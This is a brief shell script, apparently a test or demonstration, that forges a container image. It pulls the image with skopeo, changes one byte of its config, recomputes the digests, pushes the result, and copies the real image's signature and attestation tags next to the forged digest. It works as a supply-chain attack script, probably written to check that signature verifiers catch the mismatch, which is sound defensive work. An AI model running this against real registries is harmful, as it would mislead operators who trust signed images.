#!/bin/sh
# forge REPOSITORY DIGEST: what somebody can do who has the registry, and not the key. Pushes the image again, but for one
# byte of its configuration, lays the real one's signature and attestations beside it, and prints its digest.
set -eu
copy() { skopeo copy --quiet --preserve-digests "$@" >&2; }
copy "docker://$1@$2" dir:/tmp/forged
cd /tmp/forged
was=$(jq -r .config.digest manifest.json | cut -d: -f2)
sed -i 's/"architecture":"a/"architecture":"b/' "$was"
config=$(sha256sum "$was" | cut -d' ' -f1)
mv "$was" "$config"
jq -c --arg digest "sha256:$config" '.config.digest = $digest' manifest.json >changed
mv changed manifest.json
digest=sha256:$(sha256sum manifest.json | cut -d' ' -f1)
copy dir:. "docker://$1:forged"
beside() { echo "$1" | tr : -; }
for kind in sig att; do copy "docker://$1:$(beside "$2").$kind" "docker://$1:$(beside "$digest").$kind"; done
echo "$digest"
